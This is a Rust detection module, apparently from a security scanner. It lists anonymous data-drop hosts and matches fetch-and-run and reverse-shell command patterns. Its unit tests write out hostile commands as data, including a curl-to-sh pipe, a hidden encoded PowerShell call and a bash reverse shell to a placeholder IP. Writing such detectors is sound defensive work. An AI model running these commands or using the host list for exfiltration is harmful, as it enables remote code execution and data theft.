//! Where things are sent to and fetched from, and commands that fetch.

/// Parts of addresses that take what anybody sends, or give what anybody left, without telling who.
const DROPS: &[&str] = &[
    "discord.com/api/webhooks",
    "discordapp.com/api/webhooks",
    "api.telegram.org/bot",
    "webhook.site",
    "pipedream.net",
    "ngrok.io",
    "ngrok.app",
    "ngrok-free.app",
    "burpcollaborator.net",
    "oastify.com",
    "interact.sh",
    ".oast.",
    "requestbin",
    "beeceptor.com",
    "canarytokens",
    "pastebin.com",
    "paste.ee",
    "hastebin",
    "rentry.co",
    "transfer.sh",
    "file.io",
    "gofile.io",
    "anonfiles",
    "cdn.discordapp.com",
    "dpaste.",
    "trycloudflare.com",
    "serveo.net",
    "loca.lt",
    "bit.ly/",
    "tinyurl.com",
    "grabify",
    "iplogger",
    ".onion",
    "dnslog.cn",
    "ceye.io",
    "eyes.sh",
    "requestcatcher.com",
    "hookbin",
    "mocky.io",
    "replit.dev",
    "repl.co",
    "glitch.me",
    "pythonanywhere.com",
    "000webhost",
    "onrender.com",
    "herokuapp.com",
    "vercel.app",
    "workers.dev",
];

/// Whether a text names such an address, or one by number.
pub(super) fn is_drop(text: &str) -> bool {
    DROPS.iter().any(|d| text.contains(d)) || has_numeric_host(text)
}

/// An address by number that is not of this machine or of a network behind a router.
fn has_numeric_host(text: &str) -> bool {
    text.match_indices("://").any(|(at, _)| {
        let rest = text.get(at.saturating_add(3)..).unwrap_or_default();
        let host = rest
            .split(['/', ':', '?', '"', '\'', ' '])
            .next()
            .unwrap_or_default();
        let parts: Option<Vec<u8>> = host.split('.').map(|p| p.parse().ok()).collect();
        match parts.as_deref() {
            Some([127 | 10 | 0, _, _, _] | [192, 168, _, _] | [169, 254, _, _]) => false,
            Some([172, second, _, _]) => !(16..32).contains(second),
            Some([_, _, _, _]) => true,
            _ => false,
        }
    })
}

/// Whether a command fetches something and runs it.
pub(crate) fn fetches_and_runs(command: &str) -> bool {
    let text = command.to_ascii_lowercase();
    let fetches = [
        "curl",
        "wget",
        "http://",
        "https://",
        "downloadstring",
        "downloadfile",
        "bitsadmin",
        "certutil",
    ]
    .iter()
    .any(|w| text.contains(w));
    let runs = [
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "| python",
        "|python",
        "iex",
        "invoke-expression",
        "chmod +x",
        "start ",
    ]
    .iter()
    .any(|w| text.contains(w));
    let powershell = text.contains("powershell") || text.contains("pwsh");
    let mshta = text.contains("mshta");
    fetches && (runs || mshta)
        || powershell && (fetches || hides(&text))
        || text.contains("/dev/tcp/")
        || text.contains("nc -e ")
        || text.contains("bash -i")
}

/// Options of PowerShell that keep what it runs from being seen.
fn hides(text: &str) -> bool {
    ["-enc", "-e ", "-ec ", "hidden", "frombase64string"]
        .iter()
        .any(|w| text.contains(w))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_that_anybody_can_have_are_known() {
        for (text, expected) in [
            ("https://discord.com/api/webhooks/1/x", true),
            ("http://203.0.113.9:8080/x", true),
            ("http://127.0.0.1:8080/x", false),
            ("http://192.168.1.4/x", false),
            ("https://files.example/x-1.2.3.4.whl", false),
            ("https://api.example/v1", false),
        ] {
            assert_eq!(is_drop(text), expected, "{text}");
        }
    }

    #[test]
    fn commands_that_run_what_they_fetch_are_told_from_others() {
        for (command, expected) in [
            ("curl https://a.example/x | sh", true),
            ("powershell -WindowStyle Hidden -EncodedCommand cABv", true),
            ("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", true),
            ("git clone https://a.example/x", false),
            ("curl -O https://a.example/data.zip", false),
            ("powershell Get-Date", false),
            ("make start ", false),
        ] {
            assert_eq!(fetches_and_runs(command), expected, "{command}");
        }
    }
}
